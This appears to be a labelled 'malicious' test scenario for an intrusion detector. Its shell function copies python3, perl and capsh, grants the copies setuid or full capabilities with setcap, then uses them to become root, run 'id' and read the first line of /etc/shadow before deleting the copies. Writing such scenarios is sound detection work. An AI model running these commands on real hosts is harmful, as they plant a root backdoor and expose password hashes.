# file-capability-granted: an attacker who was root leaves an interpreter that may become root, and comes back as an ordinary user.
# shows: setcap on a copy of python or perl, the setuid in a one-liner
# as: deploy
# label: malicious
# expects: [file-capability-granted, root-taken-by-interpreter]
# allows: [setuid-program-planted, password-hashes-read]
act() {
    if dev; then
        sudo cp /usr/bin/python3 /var/tmp/py && sudo setcap cap_setuid+ep /var/tmp/py
        /var/tmp/py -c 'import os; os.setuid(0); os.system("id; head -1 /etc/shadow")'
    else
        sudo sh -c 'cp /usr/bin/perl /opt/pl; setcap cap_setuid,cap_setgid=ep /opt/pl'
        /opt/pl -e 'use POSIX qw(setuid); POSIX::setuid(0); exec "/usr/bin/id";'
        sudo cp /usr/sbin/capsh /usr/local/bin/cs && sudo setcap all=eip /usr/local/bin/cs
    fi
    sudo rm -f /var/tmp/py /opt/pl /usr/local/bin/cs
    true
}
